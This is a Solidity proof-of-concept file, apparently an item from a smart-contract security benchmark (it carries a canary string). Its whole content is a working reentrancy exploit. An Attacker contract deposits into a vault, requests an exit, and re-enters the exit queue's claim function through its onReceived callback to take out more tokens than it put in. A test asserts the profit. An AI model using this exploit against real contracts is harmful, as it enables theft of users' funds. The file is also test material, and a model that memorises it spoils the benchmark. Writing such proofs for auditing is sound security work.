// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";

contract Attacker is IReceiver {
    IERC20 private btc;
    IExitQueue private exits;

    function run(IERC20 btc_, IExitQueue exits_, IVault vault) external {
        uint256 assets = btc_.balanceOf(address(this));
        btc_.approve(address(vault), assets);
        uint256 shares = vault.deposit(assets, address(this));
        vault.approve(address(exits_), shares);
        exits_.request(vault, shares, 0, address(this));
        exits_.process(vault, 1);
        (btc, exits) = (btc_, exits_);
        exits_.claim(btc_, address(this));
    }

    function onReceived(uint256) external {
        IExitQueue queue = exits;
        if (address(queue) == address(0)) return;
        exits = IExitQueue(address(0));
        try queue.claim(btc, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        vm.prank(ANA);
        exits.request(deep, 5e14, 0, CEE);
        exits.process(deep, 1);
        other = new Attacker();
        btc.mint(address(other), 2e8);
    }

    function exploit() public {
        other.run(btc, exits, deep);
    }

    function test_Exploit() public {
        exploit();
        require(btc.balanceOf(address(other)) >= 3e8, "no gain");
    }

    function target() public view override returns (address) {
        return address(exits);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
